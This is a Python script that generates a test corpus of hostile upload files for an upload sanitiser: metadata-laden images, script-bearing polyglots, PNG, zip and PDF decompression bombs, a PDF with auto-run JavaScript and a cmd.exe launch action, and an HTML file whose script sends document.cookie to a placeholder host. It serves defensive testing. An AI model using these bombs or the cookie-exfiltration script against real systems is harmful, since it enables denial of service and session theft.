"""Build tests/corpus/uploads: small hostile files for refuge.intake.uploads.

Run from the repository root: `.venv/bin/python tests/corpus/make_upload_corpus.py`.
Every file is made here from Pillow, pikepdf and plain bytes, so the corpus can be
rebuilt and reviewed; tests/intake/uploads/test_corpus.py holds the expected outcome
of each. Planted values (PLANTED below) must never appear in a sanitised file.
Rebuilding gives the same bytes, except for the two encrypted PDFs (random salts).
"""

from __future__ import annotations

import io
import struct
import sys
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path

import pikepdf
from PIL import Image, ImageDraw, PngImagePlugin

HERE = Path(__file__).resolve().parent / "uploads"

# Strings planted in metadata; a test searches every sanitised output for them.
PLANTED = (
    b"PlantedMake",
    b"PlantedModel",
    b"SN-PLANTED-0042",
    b"PlantedLens",
    b"PlantedSoft",
    b"Planted Artist",
    b"Planted Author",
    b"Planted comment",
    b"Planted title",
    b"2017:04:01",
    b"planted-js",
    b"planted-attachment",
)
# 55°45'12.34" N, 37°37'56.78" E as EXIF rationals (the Kremlin).
GPS_LATITUDE = ((55, 1), (45, 1), (1234, 100))
GPS_LONGITUDE = ((37, 1), (37, 1), (5678, 100))


def two_colour_picture(width: int = 64, height: int = 32) -> Image.Image:
    """Left half red, right half blue: shows whether a rotation was applied."""
    picture = Image.new("RGB", (width, height), (220, 20, 20))
    ImageDraw.Draw(picture).rectangle((width // 2, 0, width, height), fill=(20, 20, 220))
    return picture


def encode(picture: Image.Image, fmt: str, **options: object) -> bytes:
    out = io.BytesIO()
    picture.save(out, fmt, **options)
    return out.getvalue()


# -- A minimal TIFF/EXIF writer: Pillow cannot write a GPS IFD next to a thumbnail IFD.

Entry = tuple[int, int, int, bytes]  # tag, type, count, value bytes


def ascii_tag(tag: int, text: str) -> Entry:
    value = text.encode() + b"\0"
    return (tag, 2, len(value), value)


def short_tag(tag: int, value: int) -> Entry:
    return (tag, 3, 1, struct.pack("<H", value))


def long_tag(tag: int, value: int) -> Entry:
    return (tag, 4, 1, struct.pack("<I", value))


def rational_tag(tag: int, values: tuple[tuple[int, int], ...]) -> Entry:
    return (tag, 5, len(values), b"".join(struct.pack("<II", *value) for value in values))


def ifd_bytes(entries: list[Entry], offset: int, next_ifd: int = 0) -> bytes:
    """One little-endian IFD placed at `offset`, its long values right after it."""
    data_offset = offset + 2 + 12 * len(entries) + 4
    head, data = struct.pack("<H", len(entries)), b""
    for tag, kind, count, value in sorted(entries):
        if len(value) <= 4:
            head += struct.pack("<HHI", tag, kind, count) + value.ljust(4, b"\0")
        else:
            head += struct.pack("<HHII", tag, kind, count, data_offset + len(data))
            data += value + b"\0" * (len(value) % 2)
    return head + struct.pack("<I", next_ifd) + data


def exif_block(orientation: int = 6, with_gps: bool = True, thumbnail: bytes | None = None) -> bytes:
    """EXIF with camera, owner, software, dates, GPS and a thumbnail, all planted."""
    exif_ifd = [
        ascii_tag(0x9003, "2017:04:01 12:34:56"),
        ascii_tag(0xA431, "SN-PLANTED-0042"),
        ascii_tag(0xA434, "PlantedLens 50mm"),
    ]
    gps_ifd = [
        (0, 1, 4, bytes([2, 3, 0, 0])),
        ascii_tag(1, "N"),
        rational_tag(2, GPS_LATITUDE),
        ascii_tag(3, "E"),
        rational_tag(4, GPS_LONGITUDE),
    ]

    def ifd0(exif_at: int, gps_at: int) -> list[Entry]:
        entries = [
            ascii_tag(0x010F, "PlantedMake"),
            ascii_tag(0x0110, "PlantedModel X1"),
            short_tag(0x0112, orientation),
            ascii_tag(0x0131, "PlantedSoft 9.9"),
            ascii_tag(0x0132, "2017:04:01 12:34:56"),
            ascii_tag(0x013B, "Planted Artist"),
            long_tag(0x8769, exif_at),
        ]
        return [*entries, long_tag(0x8825, gps_at)] if with_gps else entries

    # Sizes do not depend on offsets, so lay out once with zeros, then for real.
    size0 = len(ifd_bytes(ifd0(0, 0), 8))
    exif_at = 8 + size0
    gps_at = exif_at + len(ifd_bytes(exif_ifd, 0))
    ifd1_at = gps_at + (len(ifd_bytes(gps_ifd, 0)) if with_gps else 0)
    body = ifd_bytes(ifd0(exif_at, gps_at), 8, next_ifd=ifd1_at if thumbnail else 0)
    body += ifd_bytes(exif_ifd, exif_at)
    if with_gps:
        body += ifd_bytes(gps_ifd, gps_at)
    if thumbnail:
        ifd1 = [long_tag(0x0201, 0), long_tag(0x0202, len(thumbnail)), short_tag(0x0103, 6)]
        thumbnail_at = ifd1_at + len(ifd_bytes(ifd1, 0))
        ifd1[0] = long_tag(0x0201, thumbnail_at)
        body += ifd_bytes(ifd1, ifd1_at) + thumbnail
    return b"Exif\0\0" + b"II*\0" + struct.pack("<I", 8) + body


XMP = (
    b'<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">'
    b'<rdf:Description xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:exif="http://ns.adobe.com/exif/1.0/"'
    b' xmlns:xmp="http://ns.adobe.com/xap/1.0/" xmp:CreatorTool="PlantedSoft 9.9"'
    b' exif:GPSLatitude="55,45.2N" exif:GPSLongitude="37,37.9E">'
    b"<dc:creator><rdf:Seq><rdf:li>Planted Author</rdf:li></rdf:Seq></dc:creator>"
    b"</rdf:Description></rdf:RDF></x:xmpmeta>"
)


# -- Images


def jpeg_gps_camera_thumbnail() -> bytes:
    thumbnail = encode(two_colour_picture(16, 8), "JPEG", quality=60)
    return encode(two_colour_picture(), "JPEG", quality=90, exif=exif_block(thumbnail=thumbnail))


def jpeg_xmp_icc_comment() -> bytes:
    icc = b"\0\0\0\x80PlantedICC" + b"\0" * 116
    return encode(two_colour_picture(), "JPEG", xmp=XMP, icc_profile=icc, comment=b"Planted comment")


def png_text_chunks() -> bytes:
    info = PngImagePlugin.PngInfo()
    info.add_text("Author", "Planted Author")
    info.add_text("Software", "PlantedSoft 9.9")
    info.add_text("Comment", "Planted comment", zip=True)
    info.add_itxt("XML:com.adobe.xmp", XMP.decode(), zip=True)
    info.add_itxt("Title", "Planted title", lang="en")
    info.add(b"tIME", struct.pack(">HBBBBB", 2017, 4, 1, 12, 34, 56))
    return encode(two_colour_picture(), "PNG", pnginfo=info)


def png_palette_transparent() -> bytes:
    picture = two_colour_picture().convert("P", palette=Image.Palette.ADAPTIVE, colors=4)
    return encode(picture, "PNG", transparency=0)


def webp_exif() -> bytes:
    return encode(two_colour_picture(), "WEBP", quality=80, exif=exif_block(orientation=1))


def webp_broken_exif() -> bytes:
    """A BigTIFF header cut short: Pillow's EXIF parser raised struct.error (found by atheris)."""
    return encode(two_colour_picture(), "WEBP", exif=b"Exif\0\0II+\0\x08\0")


def webp_lossless_icc() -> bytes:
    icc = b"\0\0\0\x80PlantedICC" + b"\0" * 116
    return encode(two_colour_picture().convert("RGBA"), "WEBP", lossless=True, icc_profile=icc)


def plain_jpeg() -> bytes:
    return encode(two_colour_picture(32, 32), "JPEG", quality=80)


def jpeg_zip_polyglot() -> bytes:
    return plain_jpeg() + zip_with({"payload.html": b"<script>alert('planted-js')</script>"})


def jpeg_html_polyglot() -> bytes:
    return plain_jpeg() + b"<html><body><script>alert('planted-js')</script></body></html>"


def png_trailing_data() -> bytes:
    return encode(two_colour_picture(), "PNG") + b"PK\x03\x04planted-attachment" + b"\0" * 64


def jpeg_truncated() -> bytes:
    whole = encode(Image.effect_noise((256, 256), 64).convert("RGB"), "JPEG", quality=90)
    return whole[: len(whole) // 2]


def jpeg_many_scans() -> bytes:
    """A progressive JPEG whose last scan repeats 150 times: each scan re-walks every block."""
    whole = encode(two_colour_picture(), "JPEG", progressive=True)
    last_scan = whole.rindex(b"\xff\xda")
    return whole[:last_scan] + whole[last_scan:-2] * 150 + b"\xff\xd9"


def png_chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def png_bomb(width: int, height: int, rows: int) -> bytes:
    """A 1-bit PNG declaring width x height, with `rows` rows of zeros actually compressed."""
    ihdr = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    compressor = zlib.compressobj(9)
    row = b"\0" * (1 + (width + 7) // 8)
    idat = b"".join(compressor.compress(row) for _ in range(rows)) + compressor.flush()
    return b"\x89PNG\r\n\x1a\n" + png_chunk(b"IHDR", ihdr) + png_chunk(b"IDAT", idat) + png_chunk(b"IEND", b"")


def png_decompression_bomb() -> bytes:
    return png_bomb(30_000, 30_000, 30_000)  # 900 megapixels: 112 MB of pixels from ~110 KB


def png_48_megapixels_declared() -> bytes:
    return png_bomb(8_000, 6_000, 10)  # above the limit, under twice it: Pillow only warns


def gif() -> bytes:
    return encode(two_colour_picture(8, 8).convert("P"), "GIF")


def heic_header() -> bytes:
    return struct.pack(">I", 24) + b"ftypheic" + b"\0\0\0\0mif1heic" + b"\0" * 64


# -- Not images, not PDFs


def zip_with(members: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members.items():
            archive.writestr(zipfile.ZipInfo(name, date_time=(2017, 4, 1, 0, 0, 0)), content)
    return out.getvalue()


def zip_bomb() -> bytes:
    """50 MiB of zeros in ~50 KB: refused by its type, never unpacked."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        entry = zipfile.ZipInfo("bomb.bin", date_time=(2017, 4, 1, 0, 0, 0))
        entry.compress_type = zipfile.ZIP_DEFLATED
        with archive.open(entry, "w") as member:
            for _ in range(50):
                member.write(b"\0" * (1024 * 1024))
    return out.getvalue()


SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert("planted-js")</script><rect width="8" height="8"/></svg>'
HTML = b"<!DOCTYPE html><html><body><script>fetch('https://example.invalid/?c='+document.cookie)</script></body></html>"


def utf16_text() -> bytes:
    return "Это не картинка, а текст в UTF-16.".encode("utf-16")


def exe_header() -> bytes:
    return (
        b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff"
        + b"\0" * 46
        + struct.pack("<I", 64)
        + b"PE\0\0"
        + b"\0" * 60
    )


def elf_header() -> bytes:
    return b"\x7fELF\x02\x01\x01\x00" + b"\0" * 8 + struct.pack("<HHI", 2, 0x3E, 1) + b"\0" * 40


# -- PDFs


def pdf_bytes(pdf: pikepdf.Pdf, **options: object) -> bytes:
    out = io.BytesIO()
    pdf.save(out, static_id=True, fix_metadata_version=False, **options)
    return out.getvalue()


def new_pdf(pages: int = 1) -> pikepdf.Pdf:
    pdf = pikepdf.new()
    for _ in range(pages):
        pdf.add_blank_page(page_size=(200, 200))
    return pdf


def plain_pdf() -> bytes:
    return pdf_bytes(new_pdf())


def pdf_javascript_metadata() -> bytes:
    """Info, XMP, an OpenAction script, a document script, an attachment and a launch link."""
    pdf = new_pdf()
    pdf.trailer.Info = pdf.make_indirect(
        pikepdf.Dictionary(
            Author="Planted Author",
            Producer="PlantedSoft 9.9",
            CreationDate="D:20170401123456+03'00'",
            Title="Planted title",
        )
    )
    pdf.Root.Metadata = pdf.make_stream(XMP, Type=pikepdf.Name.Metadata, Subtype=pikepdf.Name.XML)
    script = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert('planted-js')"))
    pdf.Root.OpenAction = pdf.make_indirect(script)
    pdf.Root.Names = pikepdf.Dictionary(
        JavaScript=pikepdf.Dictionary(Names=pikepdf.Array([pikepdf.String("init"), pdf.make_indirect(script)]))
    )
    pdf.attachments["planted-attachment.txt"] = pikepdf.AttachedFileSpec(pdf, b"planted-attachment")
    launch = pikepdf.Dictionary(S=pikepdf.Name.Launch, F=pikepdf.String("cmd.exe"))
    link = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 0, 100, 100], A=launch)
    pdf.pages[0].Annots = pdf.make_indirect(pikepdf.Array([pdf.make_indirect(link)]))
    return pdf_bytes(pdf)


def pdf_trailing_data() -> bytes:
    return plain_pdf() + b"<html><script>alert('planted-js')</script></html>\n" + zip_with({"x.txt": b"planted"})


def pdf_malformed() -> bytes:
    return (
        b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R\nendobj\n\xff\xfe garbage \x00 trailer << /Root 9 0 R >>\n"
    )


def pdf_encrypted() -> bytes:
    return pdf_bytes(new_pdf(), encryption=pikepdf.Encryption(owner="owner-secret", user="user-secret", R=6))


def pdf_owner_password_only() -> bytes:
    """Opens without a password (copying forbidden): common for statements and forms."""
    permissions = pikepdf.Permissions(extract=False, modify_other=False)
    return pdf_bytes(new_pdf(), encryption=pikepdf.Encryption(owner="owner-secret", user="", allow=permissions, R=6))


def raw_pdf(objects: list[bytes]) -> bytes:
    """A PDF written byte by byte (qpdf would inflate a metadata stream while saving)."""
    parts, offsets, size = [b"%PDF-1.7\n"], [], 9
    for number, body in enumerate(objects, start=1):
        offsets.append(size)
        parts.append(b"%d 0 obj\n%s\nendobj\n" % (number, body))
        size += len(parts[-1])
    parts.append(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
    parts.extend(b"%010d 00000 n \n" % offset for offset in offsets)
    parts.append(b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, size))
    return b"".join(parts)


def pdf_metadata_bomb() -> bytes:
    """XMP streams that inflate to 80 MiB, one as /Metadata, one under another key."""
    compressor = zlib.compressobj(9)
    bomb = b"".join(compressor.compress(b"\0" * (1024 * 1024)) for _ in range(80)) + compressor.flush()
    stream = b"<< /Type /Metadata /Subtype /XML /Filter /FlateDecode /Length %d >>\nstream\n%s\nendstream"
    return raw_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R /Metadata 4 0 R /Hidden 4 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>",
            stream % (len(bomb), bomb),
        ]
    )


def pdf_too_many_pages() -> bytes:
    return pdf_bytes(new_pdf(201), object_stream_mode=pikepdf.ObjectStreamMode.generate)


CORPUS: dict[str, Callable[[], bytes]] = {
    "jpeg_gps_camera_thumbnail.jpg": jpeg_gps_camera_thumbnail,
    "jpeg_xmp_icc_comment.jpg": jpeg_xmp_icc_comment,
    "png_text_chunks.png": png_text_chunks,
    "png_palette_transparent.png": png_palette_transparent,
    "webp_exif.webp": webp_exif,
    "webp_lossless_icc.webp": webp_lossless_icc,
    "webp_broken_exif.webp": webp_broken_exif,
    "jpeg_zip_polyglot.jpg": jpeg_zip_polyglot,
    "jpeg_html_polyglot.jpg": jpeg_html_polyglot,
    "png_trailing_data.png": png_trailing_data,
    "jpeg_truncated.jpg": jpeg_truncated,
    "jpeg_many_scans.jpg": jpeg_many_scans,
    "png_decompression_bomb.png": png_decompression_bomb,
    "png_48_megapixels_declared.png": png_48_megapixels_declared,
    "gif.gif": gif,
    "heic_header.heic": heic_header,
    "svg_script.svg": lambda: SVG,
    "html_renamed.jpg": lambda: HTML,
    "zip_bomb.zip": zip_bomb,
    "utf16_text.txt": utf16_text,
    "exe_header.exe": exe_header,
    "elf_header.bin": elf_header,
    "empty.jpg": lambda: b"",
    "pdf_javascript_metadata.pdf": pdf_javascript_metadata,
    "pdf_trailing_data.pdf": pdf_trailing_data,
    "pdf_malformed.pdf": pdf_malformed,
    "pdf_encrypted.pdf": pdf_encrypted,
    "pdf_owner_password_only.pdf": pdf_owner_password_only,
    "pdf_metadata_bomb.pdf": pdf_metadata_bomb,
    "pdf_too_many_pages.pdf": pdf_too_many_pages,
}


def main(target: Path = HERE) -> None:
    """Write every corpus file into `target`, replacing what is there."""
    target.mkdir(parents=True, exist_ok=True)
    for stale in target.iterdir():
        if stale.name not in CORPUS:
            stale.unlink()
    for name, make in CORPUS.items():
        (target / name).write_bytes(make())
    total = sum(path.stat().st_size for path in target.iterdir())
    sys.stdout.write(f"{len(CORPUS)} files, {total:,} bytes in {target}\n")


if __name__ == "__main__":
    main()
